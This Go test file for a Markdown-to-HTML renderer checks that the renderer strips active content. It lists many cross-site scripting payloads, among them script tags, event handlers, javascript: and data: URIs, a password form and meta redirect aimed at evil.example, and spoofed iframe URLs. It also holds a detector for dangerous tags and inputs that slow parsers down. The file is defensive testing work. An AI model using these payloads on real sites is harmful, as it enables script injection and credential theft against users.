package markdown_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/greenroom-idp/greenroom/api/techdocs/markdown"
)

// evil are attempts to have a browser do something, in Markdown and HTML.
var evil = []string{
	"<script>alert(1)</script>",
	"<ScRiPt src=//x.example/y.js></sCrIpT>",
	"<img src=x onerror=alert(1)>",
	"<svg onload=alert(1)><script>alert(1)</script></svg>",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
	"<math><mtext><img src=x onerror=alert(1)></mtext></math>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\" &#106;avascript:alert(1)\">x</a>",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"[x](vbscript:msgbox)",
	"![x](javascript:alert(1))",
	"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
	"<javascript:alert(1)>",
	"<iframe src=\"https://evil.example\"></iframe>",
	"<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
	"<object data=\"x.swf\"></object><embed src=\"x.swf\">",
	"<form action=\"https://evil.example\"><input name=password type=password><button>Go</button></form>",
	"<style>body{display:none}</style>",
	"<p style=\"position:fixed;top:0;background:url(javascript:alert(1))\">x</p>",
	"<link rel=stylesheet href=\"https://evil.example/main.12345678.min.css\">",
	"<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
	"<base href=\"https://evil.example/\">",
	"<input type=\"image\" src=x onerror=alert(1)>",
	"<details ontoggle=alert(1) open>x</details>",
	"<video><source onerror=alert(1)></video>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
	"<!--><img src=x onerror=alert(1)>-->",
	"<![CDATA[<img src=x onerror=alert(1)>]]>",
	"# x {onclick=alert(1) style=color:red}",
	"![x](a.png){ onerror=alert(1) style=\"x\" }",
	"[x](y){: href=javascript:alert(1) onclick=alert(1) }",
	"```x\" onmouseover=\"alert(1)\n<script>alert(1)</script>\n```",
	"```go title=\"<script>alert(1)</script>\"\nx\n```",
	"``` { .go #a\"onclick=\"alert(1) }\nx\n```",
	"!!! note \"<script>alert(1)</script>\"\n    <script>alert(1)</script>",
	"=== \"<img src=x onerror=alert(1)>\"\n    x",
	"???+ \"x\" onclick=alert(1)",
	"| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
	"[^1]\n\n[^1]: <script>alert(1)</script>",
	"https://x.example/\"onmouseover=\"alert(1)",
	"<https://x.example/\"onmouseover=\"alert(1)>",
	"[x]: javascript:alert(1)\n\n[x]",
	"==<script>alert(1)</script>==",
}

// dangerous returns what in some HTML a browser could be made to act upon.
func dangerous(source string) string {
	z := html.NewTokenizer(strings.NewReader(source))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken:
			token := z.Token()
			switch token.Data {
			case "script", "style", "iframe", "object", "embed", "form", "button", "textarea", "link", "meta", "base", "svg", "math", "noscript", "template":
				return token.String()
			}
			for _, a := range token.Attr {
				value := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
				scheme, _, hasScheme := strings.Cut(value, ":")
				isURL := a.Key == "href" || a.Key == "src" || a.Key == "xlink:href" || a.Key == "poster"
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc" || a.Key == "action" ||
					isURL && hasScheme && (strings.HasSuffix(scheme, "script") || scheme == "data" && !strings.HasPrefix(value, "data:image/png")) {
					return token.String()
				}
				if token.Data == "input" && a.Key == "type" && a.Val != "radio" && a.Val != "checkbox" {
					return token.String()
				}
			}
		}
	}
}

func TestNothingActive(t *testing.T) {
	require.NotEmpty(t, dangerous(`<p><img src=x onerror=alert(1)></p>`), "the check can see what it looks for")
	require.NotEmpty(t, dangerous(`<a href=" java
script:x">`))
	for _, source := range evil {
		for _, wrapped := range []string{source, "> " + source, "- " + source, "<div markdown>\n\n" + source + "\n\n</div>"} {
			got := string(render(t, wrapped).HTML)
			require.Empty(t, dangerous(got), "%q becomes %q", wrapped, got)
		}
	}
}

// What HTML leaves open or closes too often stays in its place.
func TestNothingReachesOut(t *testing.T) {
	for source, want := range map[string]string{
		"## A <script> b\n\nAfter.":        "<h2 id=\"a-script-b\">A  b<a class=\"headerlink\" href=\"#a-script-b\" title=\"Permanent link\">¶</a></h2>\n<p>After.</p>\n",
		"> <script>x\n\nAfter.":            "<blockquote>\n</blockquote>\n<p>After.</p>\n",
		"</div></div></article>\n\nAfter.": "\n<p>After.</p>\n",
		"<div><b>\n\nAfter.":               "<div><b>\n<p>After.</p>\n</b></div>",
		"a <textarea> b":                   "<p>a  b</p>\n",
	} {
		require.Equal(t, want, string(render(t, source).HTML), source)
	}
	_, err := markdown.New(markdown.Options{}).Render([]byte(strings.Repeat("<div>", 5000)), markdown.Links{})
	require.ErrorIs(t, err, markdown.ErrTooDeep)
}

func TestFrames(t *testing.T) {
	r := markdown.New(markdown.Options{FrameHosts: []string{"www.video.example"}})
	for source, kept := range map[string]bool{
		`<iframe src="https://www.video.example/embed/1" width="100%"></iframe>`:   true,
		`<iframe src="https://www.video.example.evil.example/"></iframe>`:          false,
		`<iframe src="http://www.video.example/"></iframe>`:                        false,
		`<iframe src="https://evil.example/?https://www.video.example/"></iframe>`: false,
		`<iframe src="javascript:alert(1)//https://www.video.example/"></iframe>`:  false,
		`<iframe src="https://www.video.example@evil.example/"></iframe>`:          false,
		`<iframe src="https://wwwxvideo.example/"></iframe>`:                       false,
	} {
		p, err := r.Render([]byte(source), markdown.Links{})
		require.NoError(t, err)
		require.Equal(t, kept, strings.Contains(string(p.HTML), "src="), "%s becomes %s", source, p.HTML)
	}
}

func TestBounds(t *testing.T) {
	r := markdown.New(markdown.Options{})
	_, err := r.Render(make([]byte, markdown.MaxSource+1), markdown.Links{})
	require.ErrorIs(t, err, markdown.ErrTooLarge)
	for name, source := range map[string]string{
		"quotes":    strings.Repeat(">", 500) + " x\n",
		"quotes 2":  strings.Repeat("> ", 500) + "x\n",
		"lists":     strings.Repeat("- ", 300) + "x\n",
		"numbers":   strings.Repeat("1. ", 300) + "x\n",
		"callouts":  nestedCallouts(300),
		"deep list": deepList(300),
		"brackets":  strings.Repeat("[a](", 30_000),
	} {
		_, err := r.Render([]byte(source), markdown.Links{})
		require.ErrorIs(t, err, markdown.ErrTooDeep, name)
	}
}

func nestedCallouts(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat("    ", i) + "!!! note\n")
	}
	return b.String()
}

func deepList(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat("  ", i) + "- x\n")
	}
	return b.String()
}

// Inputs that are known to make parsers of Markdown slow, with signs repeated
// n times.
func pathological(n int) map[string]string {
	out := map[string]string{
		"brackets":      strings.Repeat("[", n),
		"links":         strings.Repeat("[a](", n),
		"images":        strings.Repeat("![", n),
		"emphasis":      strings.Repeat("*a_ ", n),
		"stars":         strings.Repeat("**a ", n),
		"backticks":     ticks(n / 30),
		"entities":      strings.Repeat("&a", n),
		"tags":          strings.Repeat("<a ", n),
		"comments":      strings.Repeat("<!-- ", n),
		"autolinks":     strings.Repeat("<http://", n),
		"urls":          strings.Repeat("http://a.b ", n),
		"braces":        strings.Repeat("*a*{", n),
		"pairs":         strings.Repeat("==a ", n),
		"colons":        strings.Repeat(":a", n),
		"pipes":         strings.Repeat("|", n) + "\n" + strings.Repeat("|-", n/4),
		"footnotes":     strings.Repeat("[^1]", n),
		"definitions":   strings.Repeat("a\n: b\n", n/4),
		"references":    strings.Repeat("[a]: b\n", n),
		"quoted quotes": strings.Repeat(strings.Repeat(">", 90)+"\n", n/40),
		"code":          "```js\n" + strings.Repeat("/*", n) + "\n```",
	}
	return out
}

func ticks(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString("e" + strings.Repeat("`", i))
	}
	return b.String()
}

func TestPathologicalInputIsRendered(t *testing.T) {
	r := markdown.New(markdown.Options{})
	for name, source := range pathological(2_000) {
		_, err := r.Render([]byte(source), markdown.Links{})
		if err != nil {
			require.ErrorIs(t, err, markdown.ErrTooDeep, name)
		}
	}
}

func BenchmarkPathological(b *testing.B) {
	r := markdown.New(markdown.Options{})
	for name, source := range pathological(20_000) {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				_, _ = r.Render([]byte(source), markdown.Links{})
			}
		})
	}
}

func same(s string, _ bool) markdown.Target { return markdown.Target{URL: s} }

func FuzzRender(f *testing.F) {
	for _, source := range evil {
		f.Add(source)
	}
	f.Add("---\ntitle: x\n---\n# A\n\n!!! note \"b\"\n    === \"c\"\n        d\n\n[e](f.md){: .g }\n")
	r := markdown.New(markdown.Options{})
	f.Fuzz(func(t *testing.T, source string) {
		p, err := r.Render([]byte(source), markdown.Links{Markdown: same, HTML: same})
		if err != nil {
			return
		}
		if found := dangerous(string(p.HTML)); found != "" {
			t.Fatalf("%q becomes %q", source, found)
		}
		seen := map[string]bool{}
		for _, h := range p.Headings {
			if h.ID == "" {
				t.Fatalf("heading %q has no id", h.Text)
			}
			seen[h.ID] = true
		}
	})
}
